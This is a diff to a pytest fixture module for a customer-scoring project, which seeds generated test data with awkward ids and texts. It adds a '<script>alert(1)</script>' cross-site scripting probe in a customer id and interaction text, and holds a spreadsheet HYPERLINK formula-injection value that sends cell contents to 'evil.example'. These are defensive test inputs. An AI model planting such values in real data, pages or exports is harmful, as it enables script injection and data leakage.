@@ -1,8 +1,8 @@
 """A real store and registry, built once per session, and real servers (uvicorn on a free 127.0.0.1 port).
 
-1,500 generated customers, a few of them given the awkward ids and segments real data has (`AWKWARD_IDS`,
-`FORMULA_SEGMENT`), are validated, trained on (MLflow in SQLite under the pytest temp folder, never the
-project's mlruns/) and scored as of 2025-12-31. Under pytest-xdist the workers share one store: the first to
+1,500 generated customers, a few of them given the awkward ids, segments and texts real data has (`AWKWARD_IDS`,
+`FORMULA_SEGMENT`, `SCRIPT`), are validated, trained on (MLflow in SQLite under the pytest temp folder, never
+the project's mlruns/) and scored as of 2025-12-31. Under pytest-xdist the workers share one store: the first to
 take the lock builds it. Tests treat that store as read-only; a test that writes copies the data folder first.
 """
 
@@ -33,7 +33,12 @@ SEED = 20251231
 AS_OF = dt.date(2025, 12, 31)
 # ids the contract allows that a URL or a spreadsheet treats specially: a slash, 300 characters, a leading "-",
 # a dot segment (HTTP clients remove it from a path, RFC 3986 5.2.4, unless it is sent as %2E%2E)
-AWKWARD_IDS = {"C0000002": "ACME/42", "C0000003": "ACME-" + "7" * 295, "C0000004": "-42", "C0000007": ".."}
+# and markup a page must show as text (in that customer's words too; tests that plant `SCRIPT` as an id of their
+# own in a copy of the batch keep their id unique)
+SCRIPT = "<script>alert(1)</script>"
+SCRIPT_ID = '<script>alert("id")</script>'
+AWKWARD_IDS = {"C0000002": "ACME/42", "C0000003": "ACME-" + "7" * 295, "C0000004": "-42", "C0000007": "..",
+               "C0000009": SCRIPT_ID}
 FORMULA_SEGMENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'  # a spreadsheet formula in a text cell
 FORMULA_CUSTOMERS = ("C0000005", "C0000006")
 
@@ -69,12 +74,15 @@ class Store:
 
 
 def _with_awkward_values(sample: SampleData) -> SampleData:
-    """The sample with `AWKWARD_IDS` renamed in every table and `FORMULA_SEGMENT` given to `FORMULA_CUSTOMERS`."""
+    """The sample with `AWKWARD_IDS` renamed in every table, `FORMULA_SEGMENT` given to `FORMULA_CUSTOMERS` and
+    `SCRIPT` in the words of the customer `SCRIPT_ID`."""
     for frame in (sample.customers, sample.transactions, sample.interactions, sample.truth):
         if frame is not None:
             frame["customer_id"] = frame["customer_id"].replace(AWKWARD_IDS)
     formula = sample.customers["customer_id"].isin(FORMULA_CUSTOMERS)
     sample.customers.loc[formula, "segment"] = FORMULA_SEGMENT
+    script = sample.interactions["customer_id"] == SCRIPT_ID
+    sample.interactions.loc[script, "text"] = SCRIPT + " and still waiting"
     return sample
 
 
